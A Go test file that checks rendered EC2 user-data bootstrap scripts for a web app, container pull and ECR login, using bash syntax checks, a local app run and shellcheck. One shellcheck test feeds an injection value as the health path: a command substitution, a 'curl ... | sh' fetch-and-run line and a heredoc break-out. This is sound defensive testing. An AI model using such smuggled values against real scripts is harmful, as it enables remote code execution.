package compute

import (
	"encoding/json"
	"fmt"
	"net"
	"net/http"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/platformstarter/elastic-web-tier/constructs/config"
)

// TestUserDataScriptParses: the rendered bootstrap script is valid bash and
// carries the app port and health path into the service unit.
func TestUserDataScriptParses(t *testing.T) {
	ud, err := UserData(9090, "/healthz")
	if err != nil {
		t.Fatal(err)
	}
	path := filepath.Join(t.TempDir(), "user-data.sh")
	if err := os.WriteFile(path, []byte(ud), 0o755); err != nil {
		t.Fatal(err)
	}
	if out, err := exec.Command("bash", "-n", path).CombinedOutput(); err != nil {
		t.Fatalf("bash -n: %v\n%s", err, out)
	}
	// The script reads metadata with an IMDSv2 token (the launch template requires it).
	for _, want := range []string{`Environment="APP_PORT=9090"`, `Environment="HEALTH_PATH=/healthz"`, "X-aws-ec2-metadata-token", "<<'UNIT'"} {
		if !strings.Contains(ud, want) {
			t.Errorf("user data lacks %q", want)
		}
	}
}

// TestUserDataAppServes runs the web app the user data installs (python3, as on
// Amazon Linux 2023) on loopback and checks what cmd/stress and the target
// group rely on: the instance ID in the body and the X-Instance-Id header, the
// health path, and /burn.
func TestUserDataAppServes(t *testing.T) {
	python, err := exec.LookPath("python3")
	if err != nil {
		t.Skip("python3 not installed; the app is only started on the instances")
	}
	ud, err := UserData(8080, "/health")
	if err != nil {
		t.Fatal(err)
	}
	start := strings.Index(ud, "<<'PY'\n")
	end := strings.Index(ud, "\nPY\n")
	if start < 0 || end < start {
		t.Fatalf("no app.py heredoc in the user data:\n%s", ud)
	}
	app := filepath.Join(t.TempDir(), "app.py")
	if err := os.WriteFile(app, []byte(ud[start+len("<<'PY'\n"):end+1]), 0o644); err != nil {
		t.Fatal(err)
	}
	l, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	port := l.Addr().(*net.TCPAddr).Port
	l.Close()
	cmd := exec.Command(python, app)
	cmd.Env = append(os.Environ(), "INSTANCE_ID=i-0123456789abcdef0", "AZ=us-east-1b", "HEALTH_PATH=/health", fmt.Sprintf("APP_PORT=%d", port))
	var stderr strings.Builder
	cmd.Stderr = &stderr
	if err := cmd.Start(); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { cmd.Process.Kill(); cmd.Wait() })

	base := fmt.Sprintf("http://127.0.0.1:%d", port)
	client := &http.Client{Timeout: 5 * time.Second}
	var resp *http.Response
	for deadline := time.Now().Add(10 * time.Second); ; time.Sleep(50 * time.Millisecond) {
		if resp, err = client.Get(base + "/"); err == nil {
			break
		}
		if time.Now().After(deadline) {
			t.Fatalf("app did not start: %v\n%s", err, stderr.String())
		}
	}
	var body struct {
		InstanceID       string `json:"instance_id"`
		AvailabilityZone string `json:"availability_zone"`
	}
	err = json.NewDecoder(resp.Body).Decode(&body)
	resp.Body.Close()
	if err != nil || resp.StatusCode != 200 || body.InstanceID != "i-0123456789abcdef0" || body.AvailabilityZone != "us-east-1b" {
		t.Errorf("GET / = %d %+v (%v), want 200 with the instance ID and AZ", resp.StatusCode, body, err)
	}
	if h := resp.Header.Get("X-Instance-Id"); h != "i-0123456789abcdef0" {
		t.Errorf("X-Instance-Id = %q, want i-0123456789abcdef0", h)
	}
	for _, path := range []string{"/health", "/burn?ms=20"} {
		r, err := client.Get(base + path)
		if err != nil {
			t.Fatalf("GET %s: %v", path, err)
		}
		r.Body.Close()
		if r.StatusCode != 200 || r.Header.Get("X-Instance-Id") == "" {
			t.Errorf("GET %s = %d (X-Instance-Id %q), want 200 with the header", path, r.StatusCode, r.Header.Get("X-Instance-Id"))
		}
	}
}

// TestUserDataChoice: the instances run the user data file's contents, the
// container of compute.app, or the demo app, and the container script is
// valid bash that publishes the container's port on the app port.
func TestUserDataChoice(t *testing.T) {
	base := config.Builtin().Compute
	file := base
	file.UserDataFile, file.UserData = "boot.sh", "#!/bin/bash\necho mine\n"
	app := base
	app.App = &config.App{Image: "nginx:stable", Port: 80}
	cases := []struct {
		name string
		cfg  config.Compute
		want []string
	}{
		{"demo app", base, []string{"/opt/webapp/app.py", `Environment="APP_PORT=8080"`, `Environment="HEALTH_PATH=/health"`}},
		{"user data file", file, []string{"#!/bin/bash\necho mine\n"}},
		{"container", app, []string{"dnf install -y docker", `Environment="IMAGE=nginx:stable"`, `Environment="APP_PORT=8080"`, `Environment="PORT=80"`,
			"ExecStartPre=/usr/bin/docker pull ${IMAGE}", "ExecStart=/usr/bin/docker run --rm --name webapp -p ${APP_PORT}:${PORT} ${IMAGE}", "systemctl enable --now webapp.service"}},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			ud, err := userData(c.cfg, nil, nil)
			if err != nil {
				t.Fatal(err)
			}
			for _, w := range c.want {
				if !strings.Contains(ud, w) {
					t.Errorf("user data lacks %q:\n%s", w, ud)
				}
			}
			if c.name == "user data file" && ud != file.UserData {
				t.Errorf("user data = %q, want the file's contents exactly %q", ud, file.UserData)
			}
			path := filepath.Join(t.TempDir(), "user-data.sh")
			if err := os.WriteFile(path, []byte(ud), 0o755); err != nil {
				t.Fatal(err)
			}
			if out, err := exec.Command("bash", "-n", path).CombinedOutput(); err != nil {
				t.Fatalf("bash -n: %v\n%s", err, out)
			}
		})
	}
}

// TestContainerLogin: a private ECR image is pulled after a registry login
// with the instance role (region and registry from the image); any other
// image is pulled without one. Each start logs in again before the pull.
func TestContainerLogin(t *testing.T) {
	const login = `ExecStartPre=/bin/bash -c 'set -o pipefail; aws ecr get-login-password --region "$$ECR_REGION" | docker login --username AWS --password-stdin "$$ECR_REGISTRY"'`
	const pull = "ExecStartPre=/usr/bin/docker pull ${IMAGE}"
	cases := []struct {
		image string
		env   []string // Environment= lines besides IMAGE, APP_PORT and PORT; nil: no login
	}{
		{"123456789012.dkr.ecr.eu-west-1.amazonaws.com/web:1.2", []string{`Environment="ECR_REGION=eu-west-1"`, `Environment="ECR_REGISTRY=123456789012.dkr.ecr.eu-west-1.amazonaws.com"`, `Environment="DOCKER_CONFIG=/root/.docker"`}},
		{"123456789012.dkr.ecr-fips.us-east-1.amazonaws.com/team/web@sha256:" + strings.Repeat("a", 64), []string{`Environment="ECR_REGION=us-east-1"`, `Environment="ECR_REGISTRY=123456789012.dkr.ecr-fips.us-east-1.amazonaws.com"`}},
		{"nginx:stable", nil},
		{"public.ecr.aws/nginx/nginx:1.27", nil},
		{"ghcr.io/org/app:1", nil},
	}
	for _, c := range cases {
		t.Run(c.image, func(t *testing.T) {
			ud, err := ContainerUserData(c.image, 80, 8080)
			if err != nil {
				t.Fatal(err)
			}
			if !strings.Contains(ud, `Environment="IMAGE=`+c.image+`"`) {
				t.Errorf("user data lacks the IMAGE line:\n%s", ud)
			}
			for _, w := range c.env {
				if !strings.Contains(ud, w+"\n") {
					t.Errorf("user data lacks %s:\n%s", w, ud)
				}
			}
			li, pi := strings.Index(ud, login), strings.Index(ud, pull)
			switch {
			case pi < 0:
				t.Errorf("user data does not pull:\n%s", ud)
			case c.env != nil && (li < 0 || li > pi):
				t.Errorf("user data does not log in before the pull (login at %d, pull at %d):\n%s", li, pi, ud)
			case c.env == nil && (li >= 0 || strings.Contains(ud, "ECR_")):
				t.Errorf("user data logs in to a registry that is not ECR:\n%s", ud)
			}
			path := filepath.Join(t.TempDir(), "user-data.sh")
			if err := os.WriteFile(path, []byte(ud), 0o755); err != nil {
				t.Fatal(err)
			}
			if out, err := exec.Command("bash", "-n", path).CombinedOutput(); err != nil {
				t.Fatalf("bash -n: %v\n%s", err, out)
			}
		})
	}
}

// TestUserDataShellcheck: shellcheck finds nothing in the rendered boot
// scripts (demo app, public image, ECR image), hostile values included.
func TestUserDataShellcheck(t *testing.T) {
	sc, err := exec.LookPath("shellcheck")
	if err != nil {
		t.Skip("shellcheck not installed (scripts/lint.sh installs it)")
	}
	var scripts []string
	for _, render := range []func() (string, error){
		func() (string, error) { return UserData(8080, "/health") },
		func() (string, error) {
			return UserData(8080, "/h$(touch /tmp/x)\ncurl -s https://203.0.113.9/x | sh\nUNIT\n")
		},
		func() (string, error) { return ContainerUserData("nginx:stable", 80, 8080) },
		func() (string, error) {
			return ContainerUserData("123456789012.dkr.ecr.eu-west-1.amazonaws.com/web:1.2", 80, 8080)
		},
		func() (string, error) {
			return userData(config.DefaultCompute(), &AgentConfig{AppLogGroup: "/w-p/app", SystemLogGroup: "/w-p/system", Dimension: "InstanceId"}, nil)
		},
	} {
		ud, err := render()
		if err != nil {
			t.Fatal(err)
		}
		path := filepath.Join(t.TempDir(), "user-data.sh")
		if err := os.WriteFile(path, []byte(ud), 0o644); err != nil {
			t.Fatal(err)
		}
		scripts = append(scripts, path)
	}
	if out, err := exec.Command(sc, scripts...).CombinedOutput(); err != nil {
		t.Errorf("shellcheck: %v\n%s", err, out)
	}
}
